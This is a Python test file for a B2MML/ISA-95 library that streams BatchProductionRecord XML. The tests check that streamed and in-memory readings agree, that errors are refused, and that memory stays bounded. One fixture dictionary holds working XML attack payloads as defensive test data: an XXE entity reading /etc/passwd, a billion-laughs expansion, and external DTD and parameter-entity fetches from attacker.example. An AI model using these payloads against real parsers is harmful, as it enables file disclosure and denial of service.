"""BatchProductionRecords read element by element and streamed: the same models, unmapped
paths and refusals as the reference mapping of the whole tree, in bounded memory."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from isa95_strategies import batch_production_record
from shared_paths import CASES

from isa95.b2mml.documents import B2MML, release
from isa95.b2mml.mapping.batchrecord import _bpr_from_tree, map_record
from isa95.b2mml.mapping.trees import (
    ASSUMED_TIMEZONE,
    NORMALISED,
    content_errors,
    track,
    unconsumed,
)
from isa95.b2mml.safexml import MAX_PROLOG_BYTES, parse_xml
from isa95.b2mml.schemas import NAMESPACES
from isa95.b2mml.stream import read_batch_record
from isa95.b2mml.tree import read as read_tree
from isa95.batchrecord import BatchProductionRecord, RecordedValue
from isa95.errors import (
    B2MMLError,
    DocumentContentError,
    DocumentInvalid,
    ISA95Error,
    UnsafeXMLError,
    UnsupportedDocumentError,
)

VERSIONS = ("V0701", "V0600")
Outcome = tuple[Any, list[str], list[str]]


def reference(b2mml: B2MML, data: bytes, zone: Any = None) -> Outcome:
    """The reference: the whole document as one generic tree, mapped by ``_bpr_from_tree``."""
    tree = parse_xml(data)
    version, root = b2mml.identify(tree)
    ctype = b2mml.schemas.index(version).element_type(NAMESPACES[version], root)
    unsupported: list[str] = []
    tracked = track(read_tree(tree.getroot(), ctype, unsupported, root), root)
    tracked.get("@releaseID")
    tracked.get("@versionID")
    notes: list[str] = []
    zone_token, notes_token = ASSUMED_TIMEZONE.set(zone), NORMALISED.set(notes)
    try:
        with content_errors():
            model = _bpr_from_tree(tracked, version)
    finally:
        ASSUMED_TIMEZONE.reset(zone_token)
        NORMALISED.reset(notes_token)
    return model, unsupported + list(unconsumed(tracked, root)), notes


def element_wise(b2mml: B2MML, data: bytes, zone: Any = None) -> Outcome:
    """``map_record`` over the parsed tree (what ``B2MML.read`` maps a record with)."""
    tree = parse_xml(data)
    version, _root = b2mml.identify(tree)
    notes: list[str] = []
    zone_token, notes_token = ASSUMED_TIMEZONE.set(zone), NORMALISED.set(notes)
    try:
        with content_errors():
            model, unmapped = map_record(tree.getroot(), release(version))
    finally:
        ASSUMED_TIMEZONE.reset(zone_token)
        NORMALISED.reset(notes_token)
    return model, unmapped, notes


def streamed(b2mml: B2MML, source: Any, zone: Any = None, chunk: int = 1 << 16) -> Outcome:
    document = read_batch_record(b2mml, source, assume_timezone=zone, chunk_bytes=chunk)
    assert document.binding is None and document.noun == "BatchProductionRecord"
    return document.model, document.unmapped, document.normalised


def rich(version: str, flags: dict[str, bool], naive: bool = False) -> bytes:
    """A schema-valid record holding what the models carry and much they do not."""
    zone = "" if naive else "Z"
    spec = (
        "<TagSpecification><TagIndex>1</TagIndex><DataType>decimal</DataType>"
        "<UnitOfMeasure>Cel</UnitOfMeasure><DataSource>TT-1</DataSource><Alias>a</Alias>"
        "</TagSpecification>"
    )
    if flags["second_tag"]:
        spec += (
            "<TagSpecification><TagIndex>2</TagIndex><DataType>string</DataType>"
            "<UnitOfMeasure></UnitOfMeasure><DataSource>TT-12</DataSource></TagSpecification>"
        )
    ordered = []
    for i in range(3):
        values = [
            f"<DataValue><TagIndex>1</TagIndex><Value>{i}.5</Value><Value>{i}.6</Value>"
            "<Quality>Good</Quality></DataValue>"
        ]
        if flags["second_tag"]:
            values.append(f"<DataValue><TagIndex>2</TagIndex><Value>x{i}</Value></DataValue>")
        if flags["orphan"] and i == 1:  # a TagIndex no specification names
            values.append(
                "<DataValue><TagIndex>9</TagIndex><Value>lost</Value>"
                "<Quality>Bad</Quality></DataValue>"
            )
        if flags["quality_attribute"] and i == 2:
            values.append(
                "<DataValue><TagIndex>1</TagIndex><Value>q</Value>"
                '<Quality schemeID="S">Good</Quality></DataValue>'
            )
        if flags["untagged"] and i == 0:  # no TagIndex: a value of every tag
            values.append("<DataValue><Value>all</Value></DataValue>")
        index = "<OrderIndex>1</OrderIndex>" if flags["order_index"] and i == 1 else ""
        comment = "<!-- note --><?pi x?>" if flags["comment"] and i == 0 else ""
        ordered.append(
            f"<OrderedData>{comment}{index}<TimeValue>2026-01-15T08:00:0{i}{zone}</TimeValue>"
            f"{''.join(values)}</OrderedData>"
        )
    record_id = " BPR-1 " if flags["padded"] else "BPR-1"
    header = (
        "<TimeStamp>2026-01-15T09:00:00Z</TimeStamp><Description>one</Description>"
        "<Description>two</Description>"
        if flags["header_extra"]
        else ""
    )
    data_set_extra = "<TimeStamp>2026-01-15T08:00:00Z</TimeStamp>" if flags["header_extra"] else ""
    event = (
        "<Event><EntryID>E-1</EntryID><ObjectType>Event</ObjectType>"
        "<TimeStamp>2026-01-15T08:30:00Z</TimeStamp><EventType>Operator</EventType>"
        "<EventSubType>Security</EventSubType>"
        + (
            "<Value><ValueString>1</ValueString></Value><MessageText>signed</MessageText>"
            "<PersonID> P-1</PersonID>"
            if flags["event_extra"]
            else ""
        )
        + "</Event>"
    )
    nested = (
        "<BatchProductionRecord><ID>N</ID><EntryID>N</EntryID>"
        "<ObjectType>Batch Production Record</ObjectType><DataSets><DataSet>"
        f"<EntryID>N/DS</EntryID><ObjectType>Data Set</ObjectType>{spec}{ordered[0]}"
        "</DataSet></DataSets></BatchProductionRecord>"
        if flags["nested"]
        else ""
    )
    data_sets = "".join(
        f"<DataSet><EntryID>DS</EntryID><ObjectType>Data Set</ObjectType>{data_set_extra}"
        f"{spec.replace('TT-1', f'TT-1{suffix}')}{''.join(ordered)}</DataSet>"
        for suffix in (["", "b"] if flags["two_data_sets"] else [""])
    )
    return (
        f'<?xml version="1.0"?>\n<BatchProductionRecord xmlns="{NAMESPACES[version]}">\n'
        f"<ID>{record_id}</ID><EntryID>{record_id}</EntryID>"
        f"<ObjectType>Batch Production Record</ObjectType>{header}\n"
        f"<CreationDate>2026-01-15T08:00:00{zone}</CreationDate><BatchID>B-1</BatchID>\n"
        f"<DataSets>\n{data_sets}\n</DataSets>\n<Events>{event}{event}</Events>{nested}"
        "</BatchProductionRecord>"
    ).encode()


FLAGS = (
    "second_tag",
    "orphan",
    "quality_attribute",
    "untagged",
    "order_index",
    "comment",
    "padded",
    "header_extra",
    "event_extra",
    "nested",
    "two_data_sets",
)


@pytest.mark.parametrize("version", VERSIONS)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(model=batch_production_record, chunk=st.sampled_from([1, 13, 1 << 16]))
def test_records_written_read_the_same_every_way(
    b2mml: B2MML, version: str, model: BatchProductionRecord, chunk: int
) -> None:
    data = b2mml.write(model, version=version)
    expected = reference(b2mml, data)
    assert expected[0] == model
    assert element_wise(b2mml, data) == expected
    assert streamed(b2mml, data, chunk=chunk) == expected
    assert streamed(b2mml, io.BytesIO(data), chunk=chunk) == expected
    document = b2mml.read(data)
    assert (document.model, document.unmapped, document.normalised) == expected


@pytest.mark.parametrize("version", VERSIONS)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    flags=st.fixed_dictionaries({name: st.booleans() for name in FLAGS}),
    naive=st.booleans(),
    chunk=st.sampled_from([5, 97, 1 << 16]),
)
def test_what_the_models_do_not_carry_is_reported_the_same(
    b2mml: B2MML, version: str, flags: dict[str, bool], naive: bool, chunk: int
) -> None:
    data = rich(version, flags, naive)
    assert b2mml.validate(data) == []
    zone = timezone(timedelta(hours=2)) if naive else None
    expected = reference(b2mml, data, zone)
    assert element_wise(b2mml, data, zone) == expected
    assert streamed(b2mml, data, zone, chunk) == expected
    document = b2mml.read(data, assume_timezone=zone)
    assert (document.model, document.unmapped, document.normalised) == expected


def test_the_rich_record_exercises_what_it_should(b2mml: B2MML) -> None:
    data = rich("V0701", dict.fromkeys(FLAGS, True))
    model, unmapped, normalised = streamed(b2mml, data)
    root, data_set = "BatchProductionRecord", "BatchProductionRecord/DataSets/DataSet[0]"
    assert unmapped == reference(b2mml, data)[1]
    # (how a second Description is listed is the generic mapping's business)
    assert [path for path in unmapped if "/Description" not in path] == [
        f"{root}/TimeStamp",
        f"{data_set}/TimeStamp",
        f"{data_set}/TagSpecification[0]/Alias",
        f"{data_set}/OrderedData[1]/OrderIndex",
        f"{data_set}/OrderedData[1]/DataValue[2]/Value",
        f"{data_set}/OrderedData[1]/DataValue[2]/Quality",
        f"{data_set}/OrderedData[2]/DataValue[2]/Quality/@schemeID",
        f"{root}/DataSets/DataSet[1]/TimeStamp",
        f"{root}/DataSets/DataSet[1]/TagSpecification[0]/Alias",
        f"{root}/DataSets/DataSet[1]/OrderedData[1]/OrderIndex",
        f"{root}/DataSets/DataSet[1]/OrderedData[1]/DataValue[2]/Value",
        f"{root}/DataSets/DataSet[1]/OrderedData[1]/DataValue[2]/Quality",
        f"{root}/DataSets/DataSet[1]/OrderedData[2]/DataValue[2]/Quality/@schemeID",
        f"{root}/Events/Event[0]/Value",
        f"{root}/Events/Event[1]/Value",
        f"{root}/BatchProductionRecord",
    ]
    assert normalised[-2:] == [
        f"{root}/ID: ' BPR-1 ' read as 'BPR-1'",
        f"{root}/EntryID: ' BPR-1 ' read as 'BPR-1'",
    ]
    first = model.series[0]
    assert [v.value for v in first.values[:4]] == ["0.5", "0.6", "all", "1.5"]
    assert model.series[1].values[0].value == "x0"


def test_values_read_are_independent_models(b2mml: B2MML) -> None:
    data = rich("V0701", dict.fromkeys(FLAGS, False))
    for model in (streamed(b2mml, data)[0], b2mml.read(data).model):
        first, second = model.series[0].values[:2]
        assert first.model_fields_set == second.model_fields_set == set(RecordedValue.model_fields)
        first.quality = "Bad"
        assert second.quality == "Good" and first.quality == "Bad"
        with pytest.raises(ValueError):
            first.value = "\x01"
        assert first.model_fields_set == set(RecordedValue.model_fields)


def _values_of(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    return data.replace(old, new, 1)


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"<Quality>Good</Quality>", b"<Quality></Quality>"),  # an empty identifier
        (b"<Quality>Good</Quality>", b"<Quality> Good</Quality>"),  # blanks around it
        (b"2026-01-15T08:00:01Z", b"2026-01-15T08:00:01"),  # a naive TimeValue
        (b"<Value>1.5</Value>", b"<Value>1&#13;5</Value>"),  # a CR the models refuse
        (b"<CreationDate>2026-01-15T08:00:00Z", b"<CreationDate>2026-01-15T08:00:00"),
        (b"<TimeStamp>2026-01-15T08:30:00Z", b"<TimeStamp>2026-01-15T08:30:00"),
    ],
)
def test_content_errors_are_the_reference_errors(
    b2mml: B2MML, version: str, old: bytes, new: bytes
) -> None:
    data = _values_of(rich(version, dict.fromkeys(FLAGS, False)), old, new)
    assert b2mml.validate(data) == []
    with pytest.raises(DocumentContentError) as expected:
        reference(b2mml, data)
    for read in (
        lambda: element_wise(b2mml, data),
        lambda: streamed(b2mml, data, chunk=31),
        lambda: b2mml.read(data),
    ):
        with pytest.raises(DocumentContentError) as info:
            read()
        assert str(info.value) == str(expected.value)
        assert (info.value.path, info.value.line) == (expected.value.path, expected.value.line)


def test_an_invalid_document_is_refused_as_invalid_before_its_content(b2mml: B2MML) -> None:
    data = rich("V0701", dict.fromkeys(FLAGS, False))
    broken = _values_of(data, b"<Quality>Good</Quality>", b"<Quality></Quality>")
    broken = _values_of(broken, b"</Events>", b"</Events><Bogus/>")
    with pytest.raises(DocumentInvalid, match="does not validate") as info:
        streamed(b2mml, broken)
    assert info.value.issues[0].element == "Bogus"
    with pytest.raises(DocumentInvalid, match="does not validate"):
        b2mml.read(broken)
    bad_number = _values_of(data, b"<TagIndex>1</TagIndex>", b"<TagIndex>one</TagIndex>")
    with pytest.raises(DocumentInvalid, match="not a valid value"):
        streamed(b2mml, bad_number, chunk=50)


NS = NAMESPACES["V0701"]
HOSTILE = {
    "xxe": (
        '<?xml version="1.0"?>\n<!DOCTYPE BatchProductionRecord '
        '[<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f'<BatchProductionRecord xmlns="{NS}"><ID>&xxe;</ID></BatchProductionRecord>'
    ).encode(),
    "billion laughs": (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
            for i in range(1, 10)
        )
        + f']>\n<BatchProductionRecord xmlns="{NS}"><ID>&lol9;</ID>'.encode()
        + b"</BatchProductionRecord>"
    ),
    "external dtd": (
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE BatchProductionRecord SYSTEM "http://attacker.example/evil.dtd">\n'
        f'<BatchProductionRecord xmlns="{NS}"><ID>x</ID></BatchProductionRecord>'
    ).encode(),
    "parameter entity": (
        b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % remote SYSTEM '
        b'"http://attacker.example/x.dtd"> %remote;]>\n<r/>'
    ),
    "utf-16 doctype": (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE r [<!ENTITY a "b">]>'
        f'<BatchProductionRecord xmlns="{NS}"><ID>&a;</ID></BatchProductionRecord>'
    ).encode("utf-16"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.parametrize("chunk", [3, 1 << 16])
def test_dtd_based_attacks_are_refused_streamed_too(b2mml: B2MML, name: str, chunk: int) -> None:
    with pytest.raises(UnsafeXMLError, match="DOCTYPE") as info:
        streamed(b2mml, HOSTILE[name], chunk=chunk)
    assert "root:x:0" not in str(info.value)
    with pytest.raises(UnsafeXMLError, match="DOCTYPE"):
        streamed(b2mml, io.BytesIO(HOSTILE[name]), chunk=chunk)
    with pytest.raises(UnsafeXMLError, match="DOCTYPE"):
        b2mml.read(HOSTILE[name])


def test_an_undeclared_entity_is_refused_however_the_bytes_arrive(b2mml: B2MML) -> None:
    """No DTD, so no entity is declared: a reference is never expanded nor carried.

    (In pieces, libxml2's streaming validator may report the broken document as
    invalid rather than as not well-formed: refused either way.)
    """
    base = rich("V0701", dict.fromkeys(FLAGS, True))
    for where in (b"B-1<", b"0.5<", b"signed<", b"a</Alias>"):
        data = _values_of(base, where, b"&ent;" + where)
        with pytest.raises(DocumentInvalid, match="not well-formed"):
            b2mml.read(data)
        with pytest.raises(DocumentInvalid, match="not well-formed"):
            streamed(b2mml, data)
        for chunk in range(1, 200, 11):
            with pytest.raises(DocumentInvalid):
                streamed(b2mml, data, chunk=chunk)


def test_a_prolog_longer_than_the_scan_is_refused(b2mml: B2MML) -> None:
    data = b"<!--" + b"x" * MAX_PROLOG_BYTES + b"-->" + rich("V0701", dict.fromkeys(FLAGS, False))
    with pytest.raises(UnsafeXMLError, match="prolog"):
        streamed(b2mml, data)


def test_oversize_input_is_refused_as_it_arrives(b2mml: B2MML, tmp_path: Path) -> None:
    data = rich("V0701", dict.fromkeys(FLAGS, True))
    path = tmp_path / "record.xml"
    path.write_bytes(data)
    limit = len(data) - 1
    for source in (data, bytearray(data), path, str(path), io.BytesIO(data)):
        with pytest.raises(UnsafeXMLError, match="exceeds"):
            read_batch_record(b2mml, source, max_bytes=limit, chunk_bytes=100)
    assert read_batch_record(b2mml, path, max_bytes=len(data)).model == streamed(b2mml, data)[0]


def test_a_missing_file_is_a_library_error(b2mml: B2MML, tmp_path: Path) -> None:
    with pytest.raises(B2MMLError, match="cannot read"):
        read_batch_record(b2mml, tmp_path / "absent.xml")


def test_other_documents_are_refused_like_the_in_memory_reader(b2mml: B2MML) -> None:
    lots = f'<MaterialInformation xmlns="{NS}"><MaterialLot><ID>L</ID></MaterialLot>'
    lots += "</MaterialInformation>"
    with pytest.raises(UnsupportedDocumentError, match=r"use B2MML\.read"):
        streamed(b2mml, lots.encode())
    for data, message in [
        (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "not B2MML V0701 or V0600"),
        (f'<NoSuchNoun xmlns="{NS}"/>'.encode(), "no global element <NoSuchNoun>"),
        (b"", "not well-formed"),
        (b"<BatchProductionRecord", "not well-formed"),
    ]:
        with pytest.raises(ISA95Error, match=message):
            streamed(b2mml, data)


@pytest.mark.needs_cases
def test_the_real_batch_record_is_refused_as_both_readers_refuse_it(b2mml: B2MML) -> None:
    """The one real BatchProductionRecord in the cases is BatchML V0401 (legacy)."""
    path = CASES / "mesa-b2mml-batchml-examples" / "ProductionBatchRecord_Example_v06.xml"
    with pytest.raises(UnsupportedDocumentError) as in_memory:
        b2mml.read(path.read_bytes())
    with pytest.raises(UnsupportedDocumentError) as streamed_read:
        read_batch_record(b2mml, path)
    assert str(streamed_read.value) == str(in_memory.value)


def _record_file(path: Path, values: int) -> None:
    """A V0701 record of ``values`` values in 10 data sets, written piece by piece."""
    start = datetime(2026, 1, 15, tzinfo=UTC)
    with path.open("w", encoding="utf-8") as out:
        out.write(
            f'<?xml version="1.0"?>\n<BatchProductionRecord xmlns="{NS}">\n'
            "  <ID>R</ID>\n  <EntryID>R</EntryID>\n"
            "  <ObjectType>Batch Production Record</ObjectType>\n  <DataSets>\n"
        )
        for tag in range(10):
            out.write(
                f"    <DataSet>\n      <EntryID>DS{tag}</EntryID>\n"
                "      <ObjectType>Data Set</ObjectType>\n      <TagSpecification>\n"
                "        <TagIndex>1</TagIndex>\n        <DataType>decimal</DataType>\n"
                f"        <UnitOfMeasure>Cel</UnitOfMeasure>\n        <DataSource>TT-{tag}"
                "</DataSource>\n      </TagSpecification>\n"
            )
            for i in range(values // 10):
                out.write(
                    "      <OrderedData>\n"
                    f"        <TimeValue>{(start + timedelta(seconds=i)).isoformat()}</TimeValue>\n"
                    "        <DataValue>\n          <TagIndex>1</TagIndex>\n"
                    f"          <Value>{70 + (i * 7 + tag) % 500 / 100}</Value>\n"
                    "          <Quality>Good</Quality>\n        </DataValue>\n"
                    "      </OrderedData>\n"
                )
            out.write("    </DataSet>\n")
        out.write("  </DataSets>\n</BatchProductionRecord>\n")


_PEAK = r"""
import sys
from isa95.b2mml.documents import B2MML
from isa95.b2mml.stream import read_batch_record

def peak():
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1024

schemas, path, warm, mode = sys.argv[1:5]
b2mml = B2MML(schemas)
read_batch_record(b2mml, warm)
with open(warm, "rb") as handle:
    b2mml.read(handle.read())
before = peak()
if mode == "stream":
    document = read_batch_record(b2mml, path)
else:
    with open(path, "rb") as handle:
        document = b2mml.read(handle.read())
print(before, peak(), sum(len(s.values) for s in document.model.series))
"""


def _growth(b2mml: B2MML, tmp_path: Path, values: int, mode: str) -> tuple[float, int]:
    path, warm = tmp_path / f"record-{values}.xml", tmp_path / "warm.xml"
    _record_file(path, values)
    _record_file(warm, 100)
    result = subprocess.run(
        [sys.executable, "-c", _PEAK, str(b2mml.schemas.root), str(path), str(warm), mode],
        capture_output=True,
        text=True,
        check=True,
    )
    before, after, read = (int(x) for x in result.stdout.split())
    return (after - before) / path.stat().st_size, read


def test_a_streamed_read_stays_within_three_times_the_document(
    b2mml: B2MML, tmp_path: Path
) -> None:
    """Peak memory (VmHWM, in a child process) grows by at most 3x the document's size,
    models included; reading the same document in memory grows it by far more."""
    ratio, read = _growth(b2mml, tmp_path, 40_000, "stream")
    assert read == 40_000
    assert ratio <= 3.0, f"a streamed read grew memory by {ratio:.2f}x the document"
    in_memory, _ = _growth(b2mml, tmp_path, 40_000, "memory")
    assert in_memory > ratio + 1.0, (in_memory, ratio)  # the measure tells them apart


def test_the_public_entry_points_stream_a_record(
    b2mml: B2MML, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from gxpmes.cli import main

    data = rich("V0701", dict.fromkeys(FLAGS, True))
    path = tmp_path / "record.xml"
    path.write_bytes(data)
    expected = reference(b2mml, data)
    document = b2mml.read_batch_record(path)
    assert (document.model, document.unmapped, document.normalised) == expected
    with pytest.raises(UnsafeXMLError, match="exceeds"):
        b2mml.read_batch_record(io.BytesIO(data), max_bytes=100)
    schemas = str(b2mml.schemas.root)
    assert main(["b2mml", "read", str(path), "--stream", "--json", "--schemas", schemas]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed["document"] is None and printed["unmapped"] == expected[1]
    assert printed["models"] == [expected[0].model_dump(mode="json")]
    assert main(["b2mml", "read", str(path), "--json", "--schemas", schemas]) == 0
    whole = json.loads(capsys.readouterr().out)
    assert whole["models"] == printed["models"] and whole["document"]["ID"] == " BPR-1 "
    path.write_bytes(_values_of(data, b"</Events>", b"</Events><Bogus/>"))
    assert main(["b2mml", "read", str(path), "--stream", "--schemas", schemas]) == 2
    assert "does not validate" in capsys.readouterr().err


def test_the_in_memory_read_builds_its_tree_only_when_asked(b2mml: B2MML) -> None:
    from isa95.b2mml.mapping.trees import from_binding

    data = rich("V0600", dict.fromkeys(FLAGS, True))
    document = b2mml.read(data)
    assert "_tree" not in document.__dict__ or not document.__dict__["_tree"]
    assert document.binding is not None
    assert document.tree == from_binding(document.binding, document.root, [])
    assert document.tree is document.tree  # built once
    record = document.model
    assert document.binding_of(record) == document.binding
    data_set = document.binding_of(record.series[0])
    assert data_set is not None and data_set.tag == "DataSet"
    assert data_set.value("EntryID") == "DS"
    event = document.binding_of(record.events[1])
    assert event is not None and event.tag == "Event"
    assert (
        event.element is document.binding.element.findall(f"{{{NAMESPACES['V0600']}}}Events/*")[1]
    )
    assert b2mml.write(document) == b2mml.write(b2mml.read(data, models=False))


def test_uniform_data_sets_are_read_as_columns(
    b2mml: B2MML, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from isa95.b2mml.mapping.batchrecord import RecordReader

    path = tmp_path / "uniform.xml"
    _record_file(path, 200)
    data = path.read_bytes()
    expected = reference(b2mml, data)

    def refused(*args: object) -> None:
        raise AssertionError("a uniform data set was read element by element")

    monkeypatch.setattr(RecordReader, "ordered_data", refused)
    assert element_wise(b2mml, data) == expected
    document = b2mml.read(data)
    assert (document.model, document.unmapped, document.normalised) == expected
    # One irregular OrderedData (a comment in it): that data set goes element by element.
    irregular = data.replace(b"<TimeValue>", b"<!-- c --><TimeValue>", 1)
    with pytest.raises(DocumentContentError, match="element by element"):
        element_wise(b2mml, irregular)  # (the reading boundary reports the spy's failure)


@pytest.mark.parametrize("chunk", [4096, 1 << 16])
def test_streamed_batches_of_ordered_data_read_as_in_memory(
    b2mml: B2MML, tmp_path: Path, chunk: int
) -> None:
    """More OrderedData per data set than one batch, some of them irregular."""
    from isa95.b2mml import stream

    assert stream.BATCH < 12_000 // 10
    path = tmp_path / "batches.xml"
    _record_file(path, 12_000)
    data = path.read_bytes()
    marker = b"<TimeValue>2026-01-15T00:18:20+00:00</TimeValue>"  # the 1,101st of each set
    irregular = data.replace(marker, b"<OrderIndex>7</OrderIndex>" + marker, 3)
    for document in (data, irregular):
        expected = reference(b2mml, document)
        assert streamed(b2mml, document, chunk=chunk) == expected
        assert streamed(b2mml, io.BytesIO(document), chunk=chunk + 1) == expected
    assert any("OrderIndex" in path for path in reference(b2mml, irregular)[1])
